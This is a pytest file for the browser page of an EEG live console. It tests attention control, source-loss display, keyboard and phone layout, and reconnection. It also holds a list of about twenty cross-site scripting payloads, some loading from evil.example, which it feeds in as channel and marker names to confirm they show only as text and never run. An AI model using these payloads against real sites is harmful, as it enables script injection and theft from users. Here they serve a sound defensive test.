"""The page in a browser: attention that is turned is followed, a source that is gone is seen, no name is ever markup."""

from __future__ import annotations

import json
from collections.abc import Iterator

import numpy as np
import pytest

pytest.importorskip("fastapi", reason="needs fastapi: pip install 'mindleaf[live]'")

from mindleaf.live.console import Console
from mindleaf.live.server import Server
from mindleaf.live.stream import Block, StreamInfo
from tests.live.browser import Browser, needed
from tests.live.listener import Listener, Running, session

#: What a page that makes markup of names would run; each tells its number.
PAYLOADS = (
    "<script>hit({})</script>", "<img src=x onerror=hit({})>", "<svg onload=hit({})>", "\"><script>hit({})</script>",
    "'-hit({})-'", "javascript:hit({})", "<a href=javascript:hit({}) autofocus onfocus=hit({})>x</a>", "</title><script>hit({})</script>",
    "<iframe srcdoc='<script>parent.hit({})</script>'>", "<details open ontoggle=hit({})>", "</script><script>hit({})</script>",
    "<body onload=hit({})>", "<input autofocus onfocus=hit({})>", "${{hit({})}}", "{{{{constructor.constructor('hit({})')()}}}}",
    "<math><mtext><img src=x onerror=hit({})>", "\"onmouseover=\"hit({})", "<style>@import'//evil.example/{}'</style>",
    "<link rel=stylesheet href=//evil.example/{}>", "\\u003cscript\\u003ehit({})\\u003c/script\\u003e",
)  # fmt: skip


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    needed()
    with Browser() as one:
        yield one


def test_attention_turned_at_the_page_is_followed_and_a_lost_source_is_seen(browser, tmp_path):
    listener = Listener(candidates=("left", "right"))
    console = Console(lambda: session(listener), tmp_path, can_attend=True)
    with Server(console, port=0) as server, Running(console):
        browser.open(server.url)
        browser.until("document.querySelector('#choice')?.textContent === '● left'")
        before = browser.value("document.querySelector('#attention-plot canvas').toDataURL()")
        browser.click("#attend button[data-candidate='1']")
        browser.until("document.querySelector('#attend button[data-candidate=\"1\"]').getAttribute('aria-pressed') === 'true'")
        browser.until("document.querySelector('#choice').textContent === '■ right'")
        browser.until("parseInt(document.querySelectorAll('#beliefs li')[1].children[1].textContent) > 80")
        assert browser.value("document.querySelector('#attention-plot canvas').toDataURL()") != before
        assert listener.attended == 1 and console.session.snapshot.attended == 1

        browser.press("1")
        browser.until("document.querySelector('#choice').textContent === '● left'")
        listener.gone.set()
        browser.until("document.querySelector('#state').dataset.state === 'stale'")
        assert "no EEG comes" in browser.value("document.querySelector('#state').innerText")
        assert browser.value("document.querySelector('#state').ariaLive") == "polite"
        listener.gone.clear()
        browser.until("document.querySelector('#state').dataset.state === 'running'")

        browser.press("m")
        for letter in "door":
            browser.press(letter)
        browser.press("Enter")
        browser.until("[...document.querySelectorAll('#log li')].some((line) => line.textContent.endsWith('mark: door'))")
        browser.press("r")
        browser.until("document.querySelector('#record').getAttribute('aria-pressed') === 'true'")
        browser.press("s")
        browser.until("document.querySelector('#run-word').textContent === 'Start'")
        assert len(list(tmp_path.iterdir())) == 1
        assert browser.value(
            "performance.getEntriesByType('resource').every((one) => new URL(one.name).origin === location.origin)"
        )
        assert browser.reported("Runtime.exceptionThrown", "Log.entryAdded") == []


def test_every_control_has_its_key_and_the_page_fits_a_phone(browser):
    listener = Listener()
    console = Console(lambda: session(listener), can_attend=True)
    with Server(console, port=0) as server, Running(console):
        browser.ask("Emulation.setDeviceMetricsOverride", width=390, height=844, deviceScaleFactor=2, mobile=True)
        browser.open(server.url)
        browser.until("document.querySelector('#choice')?.textContent === '● A'")
        buttons = browser.value(
            "[...document.querySelectorAll('button')].map((one) => [one.textContent, !!one.querySelector('kbd')])"
        )
        assert len(buttons) == 6 and all(key for _, key in buttons)
        # Those of touch are 44 pixels high, and nothing reaches over the edge.
        assert browser.value("[...document.querySelectorAll('button')].every((one) => one.offsetHeight >= 44)")
        assert browser.value("document.documentElement.scrollWidth") <= 390
        assert browser.value("document.querySelector('#record').disabled") is True
        assert "Not a medical device" in browser.value("document.body.innerText")
        browser.ask("Emulation.setDeviceMetricsOverride", width=1400, height=900, deviceScaleFactor=1, mobile=False)


def test_a_page_that_lost_its_server_says_so_and_comes_back(browser):
    console = Console(lambda: session(Listener()))
    with Server(console, port=0) as server, Running(console):
        port = int(server.url.rsplit(":", 1)[1].strip("/"))
        browser.open(server.url)
        browser.until("document.querySelector('#state')?.dataset.state === 'running'")
    browser.until("document.querySelector('#state').dataset.state === 'not connected'")
    again = Console(lambda: session(Listener()))
    with Server(again, port=port), Running(again):
        browser.until("document.querySelector('#state').dataset.state === 'running'")


class Hostile(Listener):
    """Every so often its EEG comes as another stream whose first channel has a name that would be markup."""

    def __init__(self, channels: tuple[str, ...], candidates: tuple[str, ...], name: str, others: list[str]) -> None:
        super().__init__(channels, candidates, 5.0, flat=len(channels) * 2 // 3, name=name)
        self._others = others

    def take(self) -> list:
        items = super().take() or []
        for k, item in enumerate(items):
            if isinstance(item, Block) and item.info.kind == "eeg" and item.first > 128 * 12 and self._others:
                info = StreamInfo("eeg", (self._others.pop(), *self.eeg.channels[1:]), self.eeg.sfreq)
                items[k] = Block(info, item.first, item.stamp, item.samples)
        return items


def test_three_hundred_names_are_text(browser):
    hostile = [PAYLOADS[k % len(PAYLOADS)].format(k, k) for k in range(300)]
    channels, candidates, name = tuple(hostile[:120]), tuple(hostile[120:124]), f"replay:{hostile[124]}.wav"
    others, marks = hostile[125:200], hostile[200:]
    last = others[0]
    source = Hostile(channels, candidates, name, list(others))
    console = Console(lambda: session(source), can_attend=True)
    # Whatever runs tells its number, from the first moment of the page on.
    hook = browser.ask(
        "Page.addScriptToEvaluateOnNewDocument", source="window.hits = []; window.hit = (k) => window.hits.push(k);"
    )
    with Server(console, port=0) as server, Running(console):
        browser.events.clear()
        browser.open(server.url)
        browser.until("document.querySelector('#state')?.dataset.state === 'no decision'")
        for mark in marks[:-1]:
            console.session.mark(mark)
        # The page itself sets the last one.
        browser.value(f"document.querySelector('#mark-text').value = {json.dumps(marks[-1])}")
        browser.value("document.querySelector('#mark').requestSubmit()")
        browser.until(f"document.querySelector('#log').textContent.includes({json.dumps('mark: ' + marks[-1])})")
        browser.until(f"document.querySelector('#log').textContent.includes({json.dumps(last)})")
        assert browser.value("document.querySelector('#source').textContent") == name
        assert [text for text in candidates if text not in browser.value("document.querySelector('#beliefs').textContent")] == []
        assert channels[0] in browser.value("document.querySelector('#quality-words').textContent")
        assert browser.value("window.hits") == []
        ours = {"SCRIPT": 2, "STYLE": 0, "IFRAME": 0, "LINK": 3, "A": 0, "MATH": 0, "DETAILS": 0, "INPUT": 1, "IMG": 1}
        assert (
            browser.value(f"Object.fromEntries({json.dumps(list(ours))}.map((t) => [t, document.querySelectorAll(t).length]))")
            == ours
        )
        assert browser.reported("Runtime.exceptionThrown", "Log.entryAdded", "Page.javascriptDialogOpening") == []
        asked = {event["request"]["url"].split("/")[2] for event in browser.reported("Network.requestWillBeSent")}
        assert asked == {server.url.split("/")[2]}
    browser.ask("Page.removeScriptToEvaluateOnNewDocument", identifier=hook["identifier"])


def test_inline_code_does_not_run_even_where_it_gets_in(browser):
    """The policy behind the habit: markup put in by hand is dead."""
    console = Console(lambda: session(Listener()))
    with Server(console, port=0) as server, Running(console):
        browser.open(server.url)
        browser.until("document.querySelector('#state')?.dataset.state === 'running'")
        browser.value(
            "window.hits = []; window.hit = (k) => window.hits.push(k); document.body.insertAdjacentHTML('beforeend', '<img id=bad src=x onerror=hit(1)>')"
        )
        browser.value(
            "new Promise((done) => { const s = document.createElement('script'); s.textContent = 'hit(2)'; document.body.append(s); setTimeout(done, 300); })"
        )
        assert browser.value("window.hits") == []
        assert any("Content Security Policy" in event["entry"]["text"] for event in browser.reported("Log.entryAdded"))


def test_the_head_has_its_electrodes_where_they_are():
    from mindleaf.live.view import head_positions

    places = head_positions(("Fpz", "Oz", "T7", "T8", "Cz", "no such place"))
    assert places[5] is None
    (fx, fy), (ox, oy), (lx, ly), (rx, ry), (cx, cy) = places[:5]
    assert fy > 0.8 and oy < -0.8 and lx < -0.8 and rx > 0.8
    assert np.allclose([fx, ox, ly, ry, cx, cy], 0, atol=0.08) and max(np.hypot(*place) for place in places[:5]) < 1.16
